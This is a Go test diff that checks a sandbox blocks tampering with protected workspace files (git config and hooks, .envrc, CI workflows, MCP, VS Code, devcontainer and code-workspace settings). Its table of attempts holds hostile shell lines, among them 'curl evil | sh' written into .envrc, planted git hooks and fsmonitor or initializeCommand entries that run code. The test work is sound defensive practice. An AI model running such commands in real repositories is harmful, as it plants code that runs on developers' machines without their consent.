@@ -56,7 +56,8 @@ func write(t *testing.T, path, content string) {
 }
 
 // repo makes a typical workspace: a git repository with one commit, existing
-// .claude/settings.json, .envrc and .github/workflows/ci.yml; .mcp.json, .vscode, .gitmodules,
+// .claude/settings.json, .envrc, proj.code-workspace and .github/workflows/ci.yml; .mcp.json,
+// .vscode, .devcontainer, .gitmodules,
 // .git/commondir, .git/config.worktree and .git/info/attributes are absent.
 func repo(t *testing.T, ws string) {
 	t.Helper()
@@ -66,6 +67,7 @@ func repo(t *testing.T, ws string) {
 	write(t, filepath.Join(ws, ".envrc"), "export A=1\n")
 	write(t, filepath.Join(ws, ".github/workflows/ci.yml"), "on: push\n")
 	write(t, filepath.Join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n")
+	write(t, filepath.Join(ws, "proj.code-workspace"), "{}\n")
 	git(t, ws, "add", "-A")
 	git(t, ws, "commit", "-q", "-m", "initial")
 }
@@ -129,45 +131,61 @@ func (pb *protectedBox) release(t *testing.T) {
 // box; every one must fail, and the integrity roots must show no transition afterwards.
 func TestReplacementAttempts(t *testing.T) {
 	needGit(t)
-	attempts := []struct{ name, script string }{
-		{"WriteInPlace", "echo evil >> .git/config"},
-		{"Truncate", ": > .claude/settings.json"},
-		{"TruncateSyscall", "truncate -s 0 .envrc"},
-		{"RenameOver", "echo evil > t && mv -f t .git/config"},
-		{"RenameOverHooksDir", "mkdir h && mv -T h .git/hooks"},
-		{"RenameParentGit", "mv .git .git-away"},
-		{"RenameParentClaude", "mv .claude .claude-away"},
-		{"RenameParentGithub", "mv .github .github-away"},
-		{"RenameParentWorkflows", "mv .github/workflows .github/wf"},
-		{"RenameWorkspaceRoot", `mv "$PWD" "$PWD-away"`},
-		{"RemoveParentClaude", "rm -rf .claude && test ! -e .claude"},
-		{"RemoveParentGit", "rm -rf .git && test ! -e .git"},
-		{"UnlinkRecreate", "rm -f .envrc; echo 'curl evil | sh' > .envrc"},
-		{"UnlinkRecreateHook", "rm -f .git/hooks/pre-commit; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit"},
-		{"NewHook", "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout"},
-		{"Chmod", "chmod 0777 .git/config"},
-		{"ChmodHookDir", "chmod 0777 .git/hooks"},
-		{"SymlinkSwap", "ln -sfn /tmp/evil .claude/settings.json"},
-		{"SymlinkRenameOver", "ln -s /tmp/evil l && mv -fT l .git/config"},
-		{"HardlinkSwap", "echo evil > h && ln -f h .envrc"},
-		{"HardlinkRenameOver", "echo evil > h && ln h h2 && mv -f h2 .git/config"},
-		{"NewWorkflow", "echo 'on: push' > .github/workflows/evil.yml"},
-		{"CreateMCP", "echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json"},
-		{"CreateGitmodules", "printf '[submodule \"x\"]\\n' > .gitmodules"},
-		{"CreateVSCodeSettings", "mkdir -p .vscode && echo '{}' > .vscode/settings.json"},
-		{"CreateVSCodeTasks", "echo '{}' > .vscode/tasks.json"},
-		{"CreateCommondir", "echo /tmp > .git/commondir"},
-		{"CreateConfigWorktree", "printf '[core]\\nfsmonitor = evil\\n' > .git/config.worktree"},
-		{"CreateInfoAttributes", "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes"},
-		{"CreateClaudeLocal", "echo '{}' > .claude/settings.local.json"},
-		{"RenameOverPlaceholder", "echo '{}' > m && mv -f m .mcp.json"},
-		{"RemovePlaceholderDir", "rmdir .vscode"},
-		{"GitConfigCommand", "git config core.fsmonitor evil"},
+	// withVSCode gives the workspace a .vscode folder of its own (then its absent protected
+	// files are file placeholders, not hidden in a placeholder folder).
+	withVSCode := func(ws string) { write(t, filepath.Join(ws, ".vscode/extensions.json"), "{}\n") }
+	attempts := []struct {
+		name, script string
+		setup        func(ws string)
+	}{
+		{"WriteInPlace", "echo evil >> .git/config", nil},
+		{"Truncate", ": > .claude/settings.json", nil},
+		{"TruncateSyscall", "truncate -s 0 .envrc", nil},
+		{"RenameOver", "echo evil > t && mv -f t .git/config", nil},
+		{"RenameOverHooksDir", "mkdir h && mv -T h .git/hooks", nil},
+		{"RenameParentGit", "mv .git .git-away", nil},
+		{"RenameParentClaude", "mv .claude .claude-away", nil},
+		{"RenameParentGithub", "mv .github .github-away", nil},
+		{"RenameParentWorkflows", "mv .github/workflows .github/wf", nil},
+		{"RenameWorkspaceRoot", `mv "$PWD" "$PWD-away"`, nil},
+		{"RemoveParentClaude", "rm -rf .claude && test ! -e .claude", nil},
+		{"RemoveParentGit", "rm -rf .git && test ! -e .git", nil},
+		{"UnlinkRecreate", "rm -f .envrc; echo 'curl evil | sh' > .envrc", nil},
+		{"UnlinkRecreateHook", "rm -f .git/hooks/pre-commit; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", nil},
+		{"NewHook", "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout", nil},
+		{"Chmod", "chmod 0777 .git/config", nil},
+		{"ChmodHookDir", "chmod 0777 .git/hooks", nil},
+		{"SymlinkSwap", "ln -sfn /tmp/evil .claude/settings.json", nil},
+		{"SymlinkRenameOver", "ln -s /tmp/evil l && mv -fT l .git/config", nil},
+		{"HardlinkSwap", "echo evil > h && ln -f h .envrc", nil},
+		{"HardlinkRenameOver", "echo evil > h && ln h h2 && mv -f h2 .git/config", nil},
+		{"NewWorkflow", "echo 'on: push' > .github/workflows/evil.yml", nil},
+		{"CreateMCP", "echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json", nil},
+		{"CreateGitmodules", "printf '[submodule \"x\"]\\n' > .gitmodules", nil},
+		{"CreateVSCodeSettings", "mkdir -p .vscode && echo '{}' > .vscode/settings.json", nil},
+		{"CreateVSCodeTasks", "echo '{}' > .vscode/tasks.json", nil},
+		{"CreateCommondir", "echo /tmp > .git/commondir", nil},
+		{"CreateConfigWorktree", "printf '[core]\\nfsmonitor = evil\\n' > .git/config.worktree", nil},
+		{"CreateInfoAttributes", "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes", nil},
+		{"CreateClaudeLocal", "echo '{}' > .claude/settings.local.json", nil},
+		{"RenameOverPlaceholder", "echo '{}' > m && mv -f m .mcp.json", nil},
+		{"RemovePlaceholderDir", "rmdir .vscode", nil},
+		{"GitConfigCommand", "git config core.fsmonitor evil", nil},
+		{"CreateDevcontainer", "mkdir -p .devcontainer && echo '{\"initializeCommand\":\"evil\"}' > .devcontainer/devcontainer.json", nil},
+		{"CreateDevcontainerJSON", "echo '{\"initializeCommand\":\"evil\"}' > .devcontainer.json", nil},
+		{"CreateVSCodeLaunch", "echo '{}' > .vscode/launch.json", withVSCode},
+		{"CreateVSCodeMCP", "echo '{}' > .vscode/mcp.json", withVSCode},
+		{"WriteCodeWorkspace", "echo '{\"tasks\":{}}' > proj.code-workspace", nil},
 	}
 	for _, a := range attempts {
 		t.Run(a.name, func(t *testing.T) {
 			t.Parallel()
-			pb, r := newProtectedBox(t, func(ws string) { repo(t, ws) }, a.script, enginetest.Options{})
+			pb, r := newProtectedBox(t, func(ws string) {
+				repo(t, ws)
+				if a.setup != nil {
+					a.setup(ws)
+				}
+			}, a.script, enginetest.Options{})
 			defer pb.release(t)
 			if r.Exit == 0 {
 				t.Errorf("attempt %q succeeded in the box (stdout %q stderr %q)", a.script, r.Stdout, r.Stderr)
